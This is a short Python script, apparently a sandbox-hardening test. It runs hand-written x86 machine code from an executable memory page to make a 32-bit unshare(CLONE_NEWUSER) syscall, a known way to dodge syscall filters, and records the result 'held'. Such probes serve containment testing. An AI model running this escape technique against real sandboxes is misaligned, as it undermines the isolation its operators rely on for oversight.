"""Goal: make 32-bit system calls, whose numbers mean something else"""
# held: crashed refused

import ctypes, mmap, platform

CODE = bytes.fromhex('53 b836010000 bb00000010 cd80 5b c3'.replace(' ', ''))  # unshare(CLONE_NEWUSER)

def attack():
    if platform.machine() != 'x86_64':
        return False
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(CODE)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))() == 0
